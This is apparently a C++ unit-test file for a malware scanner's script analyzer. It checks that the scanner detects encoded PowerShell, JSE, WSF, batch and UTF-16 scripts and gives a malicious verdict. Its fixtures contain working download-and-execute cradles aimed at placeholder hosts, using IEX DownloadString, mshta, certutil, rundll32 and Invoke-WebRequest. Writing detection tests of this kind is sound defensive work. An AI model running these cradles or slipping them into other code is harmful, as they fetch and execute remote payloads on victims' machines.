// ScriptAnalyzer on its own and through the whole engine (identification by content, the
// findings of formats/script, decoded payloads as text and children, scores).
#include "analyzers/script/script_analyzer.h"

#include <gtest/gtest.h>

#include <set>

#include "core/testing/recording_context.h"
#include "core/transfer_encoding.h"
#include "engine/engine.h"
#include "formats/script/script_encoder_fixture.h"

namespace lg {
namespace {

using lg::testing::RecordingContext;

std::set<std::string> symbols(const Report& r) {
  std::set<std::string> out;
  for (const auto& f : r.findings) out.insert(f.symbol);
  return out;
}

Report scan(std::string_view name, std::string_view bytes) {
  Engine engine(default_config());
  return engine.scan(name, as_bytes(bytes));
}

TEST(ScriptAnalyzer, PowerShellEncodedCradleThroughTheEngine) {
  const std::string ps =
      "param($u)\r\n$env:X = 1\r\nStart-Process powershell.exe -ArgumentList '-NoProfile "
      "-WindowStyle Hidden -EncodedCommand " +
      script::testing::powershell_encoded(
          "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/s')") +
      "'\r\n";
  Report r = scan("update.ps1", ps);
  ASSERT_FALSE(r.objects.empty());
  EXPECT_EQ(r.objects[0].type, "powershell");
  auto s = symbols(r);
  for (const char* want : {"SCRIPT_ATTACHMENT", "SCRIPT_ENCODED_COMMAND", "SCRIPT_DOWNLOAD_EXECUTE",
                           "SCRIPT_HIDDEN_WINDOW"}) {
    EXPECT_TRUE(s.count(want)) << want;
  }
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  // The decoded command went through the text detectors: its URL is an observable.
  bool url = false;
  for (const auto& u : r.observables.urls) url |= u.host == "203.0.113.5";
  EXPECT_TRUE(url);
}

TEST(ScriptAnalyzer, EncodedJseThroughTheEngine) {
  const std::string jse = script::testing::encode_script(
      "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\nx.open(\"GET\", "
      "\"http://198.51.100.4/p.txt\", false);\r\nx.send();\r\nnew "
      "ActiveXObject(\"WScript.Shell\").Run(\"mshta http://198.51.100.4/p.hta\", 0);\r\n");
  Report r = scan("invoice.jse", jse);
  ASSERT_FALSE(r.objects.empty());
  EXPECT_EQ(r.objects[0].type, "encoded_script");
  auto s = symbols(r);
  for (const char* want : {"SCRIPT_ATTACHMENT", "SCRIPT_ENCODED_JSE_VBE", "SCRIPT_DOWNLOAD_EXECUTE",
                           "SCRIPT_HIDDEN_WINDOW"}) {
    EXPECT_TRUE(s.count(want)) << want;
  }
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

TEST(ScriptAnalyzer, WsfJobs) {
  const std::string wsf =
      "<?xml version=\"1.0\" ?>\r\n<job id=\"update\">\r\n"
      "<script language=\"JScript\" src=\"https://cdn.example.test/lib.js\"/>\r\n"
      "<script language=\"VBScript\"><![CDATA[\r\n"
      "Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n"
      "h.Open \"GET\", \"http://192.0.2.8/a.bin\", False\r\n]]></script>\r\n"
      "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"rundll32 "
      "a.bin,Start\", 0</script>\r\n</job>\r\n";
  RecordingContext ctx;
  ASSERT_TRUE(ScriptAnalyzer(FileType::kWsf).analyze(as_bytes(wsf), ctx).is_ok());
  EXPECT_EQ(ctx.num("wsf_scripts"), 3);
  EXPECT_EQ(ctx.str("script_language"), "wsf");
  ASSERT_EQ(ctx.links.size(), 1u);
  EXPECT_EQ(ctx.links[0].href, "https://cdn.example.test/lib.js");
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));  // download and run in two blocks
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_HIDDEN_WINDOW));
  Report r = scan("update.wsf", wsf);
  EXPECT_EQ(r.objects[0].type, "wsf");
  EXPECT_TRUE(symbols(r).count("SCRIPT_DOWNLOAD_EXECUTE"));
}

TEST(ScriptAnalyzer, BatchWithCertutil) {
  const std::string bat =
      "@echo off\r\nsetlocal\r\ncertutil.exe -urlcache -split -f http://192.0.2.44/d.exe "
      "%TEMP%\\d.exe >nul\r\nstart \"\" %TEMP%\\d.exe\r\n";
  Report r = scan("setup.bat", bat);
  EXPECT_EQ(r.objects[0].type, "batch");
  EXPECT_TRUE(symbols(r).count("SCRIPT_DOWNLOAD_EXECUTE"));
}

TEST(ScriptAnalyzer, Utf16ScriptWithBom) {
  std::string ps = "\xFF\xFE";
  for (char c : std::string("Invoke-WebRequest http://192.0.2.1/x -OutFile x.exe\r\n"
                            "Start-Process x.exe\r\n$env:A = 1\r\nparam($x)\r\n")) {
    ps.push_back(c);
    ps.push_back('\0');
  }
  RecordingContext ctx;
  ASSERT_TRUE(ScriptAnalyzer(FileType::kPowerShell).analyze(as_bytes(ps), ctx).is_ok());
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("Invoke-WebRequest"), std::string::npos);
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
}

TEST(ScriptAnalyzer, Base64ProgramInScriptBecomesAnExecutableChild) {
  std::string pe(1024, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  const std::string ps = "param($p)\r\n$env:T = 1\r\n$b=[Convert]::FromBase64String('" +
                         encode_base64(as_bytes(pe)) + "')\r\n";
  Report r = scan("drop.ps1", ps);
  bool child_pe = false;
  for (const auto& o : r.objects) child_pe |= o.relation == "decoded" && o.type == "pe";
  EXPECT_TRUE(child_pe);
  EXPECT_TRUE(symbols(r).count("EXECUTABLE_ATTACHMENT"));
}

}  // namespace
}  // namespace lg
